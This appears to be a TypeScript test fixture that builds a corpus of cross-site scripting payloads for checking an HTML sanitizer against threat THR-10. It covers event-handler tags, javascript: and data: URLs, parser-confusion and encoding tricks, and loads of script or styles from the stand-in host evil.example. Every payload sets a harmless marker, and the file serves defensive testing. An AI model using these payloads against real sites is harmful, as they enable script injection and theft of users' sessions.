/** Texts and pieces of HTML that try to run a script or load something, in the ways known for doing so (THR-10). */
const says = 'window.__ran=1'
const handlers =
  'onload onerror onclick onfocus onmouseover ontoggle onanimationstart onbegin onpageshow onpointerrawupdate'
const elements = 'img svg body video audio details input marquee iframe object embed math select textarea keygen'
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'blob:',
  'file:///',
  'http://evil.example/',
  '//evil.example/',
  'https://user:word@evil.example/',
]

const byHandler = elements
  .split(' ')
  .flatMap((element) =>
    handlers.split(' ').map((handler) => `<${element} src=x href=x ${handler}="${says}" autofocus open>`),
  )

const byAddress = schemes.flatMap((scheme) => [
  `<a href="${scheme}${says}">link</a>`,
  `<img src="${scheme}${says}">`,
  `<form action="${scheme}${says}"><button>go</button></form>`,
  `[link](${scheme}${says})`,
])

const byTrick = [
  `<script>${says}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<scr<script>ipt>${says}</scr</script>ipt>`,
  `"><script>${says}</script>`,
  `';${says}//`,
  `</title><script>${says}</script>`,
  `</textarea><script>${says}</script>`,
  `<!--<img src="--><img src=x onerror=${says}//">`,
  `<svg><script>${says}</script></svg>`,
  `<svg><animate onbegin=${says} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${says}'/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${says}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${says}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${says}>">`,
  `<template><img src=x onerror=${says}></template>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${says}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${says}>">`,
  `<base href="javascript:${says}//"><a href="#">x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${says}">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<link rel=import href="//evil.example/x.html">`,
  `<style>@import '//evil.example/x.css'; body{background:url(//evil.example/x.png)}</style>`,
  `<p style="background:url(javascript:${says})">styled</p>`,
  `<div style="width:expression(${says})">old</div>`,
  `<input type=image src=x onerror=${says}>`,
  `<table background="javascript:${says}"><tr><td>cell</td></tr></table>`,
  `<isindex action="javascript:${says}">`,
  `<xmp><img src=x onerror=${says}></xmp>`,
  `<plaintext><img src=x onerror=${says}>`,
  `<portal src="//evil.example/"></portal>`,
  `<dialog open onclose=${says}><form method=dialog><button>x</button></form></dialog>`,
  `<p id=__proto__ onclick=${says}>proto</p>`,
  `<form id=x><input name=parentNode></form><img form=x src=x onerror=${says}>`,
  `<a href="https://evil.example/" onclick="${says}" target=_self ping="//evil.example/p">good address</a>`,
  `<a href="https://evil.example/\u202Egpj.exe">backwards</a>`,
  `{{constructor.constructor('${says}')()}}`,
  `\${${says}}`,
  `%3Cscript%3E${says}%3C/script%3E`,
  `\u003cscript\u003e${says}\u003c/script\u003e`,
  `<\u0000script>${says}</script>`,
  `＜script＞${says}＜/script＞`,
  `<img src="x" \u000Conerror="${says}">`,
  `<img/src/onerror=${says}>`,
  `<<img src=x onerror=${says}>`,
  `<details ontoggle=${says} open><summary>x</summary></details>`,
  `![x](javascript:${says})`,
  `[x]: javascript:${says}`,
  `<https://evil.example/"onmouseover="${says}>`,
]

export const scriptCorpus: readonly string[] = [...byHandler, ...byAddress, ...byTrick]
